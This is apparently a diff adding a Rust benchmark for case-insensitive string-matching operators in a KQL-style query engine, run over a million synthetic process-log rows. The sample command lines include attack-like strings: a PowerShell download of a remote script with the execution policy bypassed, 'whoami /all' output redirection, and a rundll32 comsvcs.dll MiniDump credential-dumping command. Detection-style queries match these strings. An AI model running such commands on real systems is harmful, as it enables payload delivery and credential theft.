@@ -1,0 +1,102 @@
+//! The hot string operators over a million command lines: `=~`, `has`, `contains`,
+//! `startswith`, `in~`, `has_any`, against the naive `tolower(x) == y` plan. Each query
+//! runs through the whole engine (`where` + `count`), so the figures include planning;
+//! on a million rows the kernel dominates.
+
+use std::hint::black_box;
+use std::sync::Arc;
+
+use criterion::{Criterion, Throughput, criterion_group, criterion_main};
+use datafusion::arrow::array::{ArrayRef, StringArray};
+use datafusion::arrow::datatypes::{DataType, Field, Schema};
+use datafusion::arrow::record_batch::RecordBatch;
+use quarry_engine::{Engine, EngineConfig, MemCatalog};
+
+const ROWS: usize = 1_000_000;
+
+fn catalog() -> Arc<MemCatalog> {
+    let files = [
+        "svchost.exe",
+        "chrome.exe",
+        "powershell.exe",
+        "cmd.exe",
+        "OUTLOOK.EXE",
+        "conhost.exe",
+        "rundll32.exe",
+    ];
+    let shapes = [
+        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
+        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
+        "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command Invoke-WebRequest http://10.0.0.5/a.ps1",
+        "cmd.exe /c whoami /all > C:\\Users\\Public\\out.txt",
+        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 C:\\Temp\\d.dmp full",
+    ];
+    let mut catalog = MemCatalog::new();
+    let schema = Arc::new(Schema::new(vec![
+        Field::new("FileName", DataType::Utf8, true),
+        Field::new("ProcessCommandLine", DataType::Utf8, true),
+    ]));
+    let mut batches = Vec::new();
+    for chunk in 0..(ROWS / 8192) {
+        let fname: ArrayRef = Arc::new(StringArray::from_iter_values(
+            (0..8192).map(|i| files[(chunk * 7 + i * 13) % files.len()]),
+        ));
+        let cmd: ArrayRef =
+            Arc::new(StringArray::from_iter_values((0..8192).map(|i| {
+                format!("{} #{}", shapes[(chunk + i * 3) % shapes.len()], i % 97)
+            })));
+        batches.push(RecordBatch::try_new(schema.clone(), vec![fname, cmd]).expect("batch"));
+    }
+    catalog.add_batches("T", schema, batches).expect("table");
+    Arc::new(catalog)
+}
+
+fn bench_kernels(c: &mut Criterion) {
+    let runtime = tokio::runtime::Builder::new_multi_thread()
+        .enable_all()
+        .build()
+        .expect("runtime");
+    let engine = Engine::new(EngineConfig::default()).expect("engine");
+    let catalog = catalog();
+    let queries = [
+        ("eq_ci", "T | where FileName =~ 'POWERSHELL.EXE' | count"),
+        (
+            "naive_tolower_eq",
+            "T | where tolower(FileName) == 'powershell.exe' | count",
+        ),
+        ("has", "T | where ProcessCommandLine has 'comsvcs' | count"),
+        (
+            "contains",
+            "T | where ProcessCommandLine contains 'webrequest' | count",
+        ),
+        (
+            "startswith",
+            "T | where ProcessCommandLine startswith 'cmd.exe' | count",
+        ),
+        (
+            "in_ci",
+            "T | where FileName in~ ('CMD.EXE', 'powershell.exe', 'Rundll32.exe') | count",
+        ),
+        (
+            "has_any",
+            "T | where ProcessCommandLine has_any ('minidump', 'bypass', 'whoami') | count",
+        ),
+    ];
+    let mut group = c.benchmark_group("string_kernels_1M");
+    group.throughput(Throughput::Elements(ROWS as u64));
+    group.sample_size(10);
+    for (name, q) in queries {
+        group.bench_function(name, |b| {
+            b.iter(|| {
+                let out = runtime
+                    .block_on(engine.run(q, catalog.clone()))
+                    .expect("query");
+                black_box(out.row_count())
+            })
+        });
+    }
+    group.finish();
+}
+
+criterion_group!(benches, bench_kernels);
+criterion_main!(benches);
